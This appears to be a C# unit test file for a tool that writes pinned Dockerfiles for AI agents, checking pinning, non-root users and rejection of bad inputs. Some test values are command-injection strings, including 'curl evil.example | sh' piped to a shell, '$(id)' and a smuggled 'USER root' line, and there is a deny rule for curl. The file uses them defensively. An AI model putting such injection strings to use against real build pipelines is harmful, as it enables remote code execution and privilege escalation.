using System.Collections.Immutable;
using Bartizan.Core.Enforcement;
using Bartizan.Core.Manifests;
using Bartizan.Posture.Images;

namespace Bartizan.Posture.Tests.Images;

/// <summary>The Dockerfile that is written for an agent.</summary>
public sealed class ImageRecipeTests
{
    private const string Base = $"localhost/base@{Scans.Digest}";

    [Fact]
    public void Everything_is_pinned_and_nothing_of_the_host_is_copied()
    {
        var text = Recipe(Base, "git=1:2.47.3-0+deb13u1", "bash=5.2").Dockerfile();

        text.ShouldContain($"FROM {Base} AS filled\n");
        text.ShouldContain("--no-install-recommends bash=5.2 git=1:2.47.3-0+deb13u1\n");
        text.ShouldContain("USER 65532:65532\n");
        text.ShouldContain($"base.digest=\"{Scans.Digest}\"");
        text.ShouldContain("bartizan.policy=\"sha256:1\"");
        var instructions = text.Split('\n').Where(line => line.StartsWith("COPY", StringComparison.Ordinal)).ToList();
        instructions.ShouldBe(["COPY --from=filled / /"]);
        text.ShouldNotContain("ADD ");
        text.ShouldNotContain("ENV ");
        text.ShouldBe(Recipe(Base, "bash=5.2", "git=1:2.47.3-0+deb13u1").Dockerfile());
    }

    [Fact]
    public void Without_packages_nothing_is_fetched() => Recipe(Base).Dockerfile().ShouldNotContain("apt-get");

    [Theory]
    [InlineData("debian:13")]
    [InlineData("debian@sha256:12")]
    [InlineData(Base + "\nRUN curl evil.example | sh")]
    [InlineData("--platform=x " + Base)]
    public void A_base_that_is_not_pinned_is_no_base(string image) =>
        Should.Throw<FormatException>(() => Recipe(image).Dockerfile());

    [Theory]
    [InlineData("git")]
    [InlineData("git=")]
    [InlineData("git=*")]
    [InlineData("--allow-unauthenticated=1")]
    [InlineData("git=1; curl evil.example")]
    [InlineData("git=$(id)")]
    [InlineData("git=1\nUSER root")]
    public void A_package_that_is_not_pinned_is_no_package(string package) =>
        Should.Throw<FormatException>(() => Recipe(Base, package).Dockerfile());

    [Fact]
    public void What_is_needed_is_the_command_s_program_and_those_of_exec_rules()
    {
        var manifest = Recipe(Base).Manifest with
        {
            Layers =
            [
                new RuleLayer(
                    "manifest",
                    IsCeiling: false,
                    [
                        Exec(Effect.Allow, "git status"),
                        Exec(Effect.Ask, "/usr/bin/jq **"),
                        Exec(Effect.Deny, "curl **"),
                        Exec(Effect.Allow, "*"),
                    ]
                ),
            ],
        };

        NeededPrograms.Of(manifest).ShouldBe(["git", "jq", "python3"]);
    }

    private static Rule Exec(Effect effect, string pattern) =>
        new()
        {
            Effect = effect,
            Verb = Verb.Exec,
            Pattern = pattern,
            Why = "a test says so",
            Position = new SourcePosition("agent.yaml", 1, 1),
        };

    private static ImageRecipe Recipe(string image, params ImmutableArray<string> packages) =>
        new()
        {
            Base = image,
            Packages = packages,
            Policy = "sha256:1",
            Manifest = Load(),
        };

    private static Manifest Load() =>
        ManifestLoader
            .Load(
                """
                apiVersion: bartizan/v1
                agent: tried
                version: 1
                owner: tests@example.com
                description: "An agent.\nRUN id"
                environment: development
                run: { command: [/usr/bin/python3, agent.py] }
                rules:
                  - allow: tool a/b
                    why: A test says so.
                servers:
                  a: { url: "https://a.example/mcp" }
                """,
                "agent.yaml",
                _ => null
            )
            .Manifest.ShouldNotBeNull();
}
